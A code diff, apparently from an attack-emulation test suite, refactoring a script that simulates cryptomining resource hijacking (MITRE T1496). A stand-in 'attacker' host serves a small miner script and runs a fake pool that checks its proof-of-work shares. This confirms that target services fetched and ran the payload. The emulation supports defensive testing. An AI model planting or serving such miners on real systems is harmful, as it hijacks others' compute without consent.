@@ -18,9 +18,11 @@ for line in lines:
     job = json.loads(line)
     if job["end"]:
         break
-    nonce = 0
-    while int.from_bytes(hashlib.sha256(f"{job['blob']}{nonce}".encode()).digest(), "big") >> (256 - job["bits"]):
+    nonce, found = -1, False
+    while not found:
         nonce += 1
+        digest = hashlib.sha256(f"{job['blob']}{nonce}".encode()).digest()
+        found = int.from_bytes(digest, "big") >> (256 - job["bits"]) == 0
     pool.sendall(json.dumps({"nonce": nonce}).encode() + b"\\n")
 """
 
@@ -31,13 +33,15 @@ def run(attack: Attack) -> bool:
     def serve_miner(connection):
         connection.makefile("r").readline()
         script = (MINER % attack.own).encode()
-        connection.sendall(b"HTTP/1.0 200 OK\r\ncontent-length: %d\r\n\r\n%s" % (len(script), script))
+        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + script)
 
     def pool(connection):
-        lines, end = connection.makefile("r"), time.monotonic() + (8 if attack.pause is None else attack.pause)
+        lines = connection.makefile("r")
+        end = time.monotonic() + (8 if attack.pause is None else attack.pause)
         while time.monotonic() < end or not shares:
             blob = hashlib.sha256(str(len(shares)).encode()).hexdigest()
-            connection.sendall(json.dumps({"blob": blob, "bits": BITS, "end": False}).encode() + b"\n")
+            job = {"blob": blob, "bits": BITS, "end": False}
+            connection.sendall(json.dumps(job).encode() + b"\n")
             nonce = json.loads(lines.readline())["nonce"]
             digest = hashlib.sha256(f"{blob}{nonce}".encode()).digest()
             shares.append(int.from_bytes(digest, "big") >> (256 - BITS) == 0)
@@ -52,4 +56,5 @@ def run(attack: Attack) -> bool:
     return attack.prove(bool(ended) and all(shares), shares=len(shares))
 
 
-Attack("T1496", ["edge", "orders", "shipping"], ["attacker:8081", "attacker:3333", "processor"]).main(run)
+Attack("T1496", ["edge", "orders", "shipping"],
+       ["attacker:8081", "attacker:3333", "processor"]).main(run)
